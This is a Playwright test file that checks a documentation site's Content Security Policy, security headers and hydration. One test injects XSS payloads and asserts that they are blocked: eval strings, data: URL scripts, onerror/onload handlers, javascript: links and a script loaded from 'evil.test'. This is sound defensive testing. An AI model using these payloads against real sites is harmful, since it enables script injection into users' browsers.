import { createHash } from 'node:crypto';
import { exportFolder, listFiles, listPages, readExported } from './exported-site';
import { openHydrated, settle } from './hydration';
import { themeToggle } from './parts';
import { site, workbench } from './places';
import { expect, test } from './reader';
import { refused, watchPolicy } from './watch-policy';

// Violations show once everything has run, so these tests start on a hydrated page.

const pages = listPages();
const htmlFiles = listFiles().filter((file) => file.endsWith('.html'));

test('every page that loads or runs something starts with its policy, and declares its encoding early enough', () => {
  expect(htmlFiles.length).toBeGreaterThan(pages.length);
  const loading = /<(script|style|link|img|svg|iframe|object|embed|video|audio|form)\b/;
  const start = /<head>\s*<meta http-equiv="Content-Security-Policy" content="default-src 'self';/;
  // An assertion for each of thousands of files would take a minute.
  const faults = htmlFiles.map((file) => {
    const html = readExported(file).toString();
    const [policy = ''] = /content="default-src[^"]*/.exec(html) ?? [];
    const isStrict = !/unsafe|\*/.test(policy) && policy.includes("require-trusted-types-for 'script'");
    const encoding = Buffer.byteLength(html.slice(0, html.search(/<meta charset="utf-8"\s*\/?>/i) + 24));
    return {
      file,
      hasPolicy: !loading.test(html) || (start.test(html) && isStrict),
      isEncodingEarly: encoding <= 1024,
    };
  });
  expect(faults.filter(({ hasPolicy, isEncodingEarly }) => !hasPolicy || !isEncodingEarly)).toEqual([]);
});

test('no page contains an inline style, a style block, an event handler, or a script URL', () => {
  const bad = htmlFiles.flatMap((file) =>
    (
      readExported(file)
        .toString()
        .replaceAll(/(<script[^>]*>)[\s\S]*?<\/script>/g, '$1')
        .match(/<style\b|<[a-z][^>]*(?:\s(?:style|on[a-z]+)=|(?:href|src)="?javascript:)[^>]*>/gi) ?? []
    ).map((tag) => `${file}: ${tag}`),
  );
  expect(bad).toEqual([]);
});

test('inline scripts are the same on all pages, so a few hashes cover them', () => {
  const hashes = new Set(
    htmlFiles.flatMap(
      (file) =>
        readExported(file)
          .toString()
          .match(/'sha256-[^']+'/g) ?? [],
    ),
  );
  expect(hashes.size).toBeLessThanOrEqual(8);
});

test('a page of a new build is hydrated with the headers of an older one', async ({ page }) => {
  const inlineScript = /<script data-payload[^>]*>([\s\S]+?)<\/script>/;
  const hashOf = (text: string) => createHash('sha256').update(text).digest('base64');
  await page.route(
    ({ pathname }) => pathname === '/concepts/streaming',
    async (route) => {
      const response = await route.fetch();
      const html = await response.text();
      // A build can change an inline script, which the page's policy allows by hash.
      const [, text = ''] = inlineScript.exec(html) ?? [];
      expect(text).toContain('announcement');
      const other = `${text} `;
      const body = html.replace(text, () => other).replace(hashOf(text), hashOf(other));
      expect(body.split(hashOf(other))).toHaveLength(2);
      expect(response.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
      await route.fulfill({ response, body });
    },
  );
  await watchPolicy(page);
  await openHydrated(page, '/concepts/streaming');
  expect(await refused(page)).toEqual([]);
});

test.describe('a page with content of its own', () => {
  test.use({ expectedNoise: [/status of 404/] });

  // every-page.spec.ts does the same for each page of the site.
  test('violates no policy and requests no other host, during hydration and while it is scrolled to its end', async ({
    page,
  }) => {
    const strangers = await watchPolicy(page);
    for (const address of ['/', '/search?q=stream', '/no/such/page', '/reference/errors?data=0xdeadbeef'])
      await test.step(address, async () => {
        await openHydrated(page, address);
        await page.evaluate(() => window.scrollTo({ top: document.body.scrollHeight, behavior: 'instant' }));
        expect(await refused(page), `what the policy of ${address} refused`).toEqual([]);
        expect(strangers, `requests of ${address} to other hosts`).toEqual([]);
      });
  });
});

test('the policy blocks nothing during navigation, in the search, and in all controls', async ({ page }) => {
  await watchPolicy(page);
  await openHydrated(page, `${workbench}/code`);
  await page.getByRole('tab', { name: 'pnpm' }).first().click();
  await themeToggle(page).click();
  await page.getByRole('link', { name: 'link to the other page' }).click();
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Features');
  await page.keyboard.press('Control+k');
  await expect(page.getByRole('dialog')).toBeVisible();
  await page.keyboard.type('tabs');
  await expect(page.getByRole('listbox').getByRole('option').first()).toBeVisible();
  await page.keyboard.press('Enter');
  await expect(page.getByRole('dialog')).toHaveCount(0);
  expect(await refused(page)).toEqual([]);
});

test.describe('an attack', () => {
  test.use({
    expectedNoise: [
      /Content Security Policy|TrustedScript|Trusted Type|ERR_BLOCKED_BY_CSP|csp|Refused|violates|404/i,
    ],
  });

  test('is blocked', async ({ page }) => {
    await watchPolicy(page);
    await openHydrated(page, '/concepts/streaming');
    await page.evaluate(async () => {
      // The test's own code may call eval, but not the code that runs later.
      await new Promise((resolve) => setTimeout(resolve));
      const attempt = (act: () => unknown) => {
        try {
          act();
        } catch {
          // Blocked.
        }
      };
      const scriptFrom = (src: string) => {
        const script = document.createElement('script');
        script.src = src;
        document.head.append(script);
      };
      // biome-ignore lint/security/noGlobalEval: this is the attack.
      attempt(() => window.eval('window.isHacked = true'));
      attempt(() => new Function('window.isHacked = true')());
      attempt(() => setTimeout('window.isHacked = true', 0));
      attempt(() => scriptFrom('https://evil.test/a.js'));
      attempt(() => scriptFrom('/concepts/streaming.txt'));
      attempt(() => scriptFrom('/_next/static/../../samples/a.js'));
      attempt(() => scriptFrom('data:text/javascript,window.isHacked=true'));
      attempt(() => {
        document.createElement('script').textContent = 'window.isHacked = true';
      });
      attempt(() => new Worker('data:text/javascript,postMessage(1)'));
      attempt(() => {
        const box = document.createElement('div');
        box.innerHTML =
          '<img src="x" onerror="window.isHacked=true"><svg onload="window.isHacked=true"></svg><iframe srcdoc="<script>parent.isHacked=true</script>"></iframe><a href="javascript:window.isHacked=true">a</a>';
        document.body.append(box);
        box.querySelector('a')?.click();
      });
    });
    await expect.poll(async () => (await refused(page)).length).toBeGreaterThanOrEqual(8);
    await settle(page);
    const results = await page.evaluate(() => ({
      isHacked: (window as unknown as { isHacked?: boolean }).isHacked,
      foreign: document.querySelectorAll('script[src*="evil"]').length,
    }));
    expect(results).toEqual({ isHacked: undefined, foreign: 0 });
  });
});

test('the server sends the headers that hosts are configured to send', async ({ request }) => {
  for (const address of ['/', '/concepts/streaming', '/no/such/page']) {
    const headers = (await request.get(`${site}${address}`)).headers();
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['cross-origin-opener-policy']).toBe('same-origin');
    expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
    expect(headers['permissions-policy']).toContain('camera=()');
    expect(headers['strict-transport-security']).toMatch(/^max-age=\d{8}/);
    expect(headers['x-content-type-options']).toBe('nosniff');
  }
  for (const file of ['_headers', 'vercel.json', 'headers.nginx.conf'])
    expect(readExported(file).toString(), `${exportFolder}/${file}`).toContain("frame-ancestors 'none'");
});
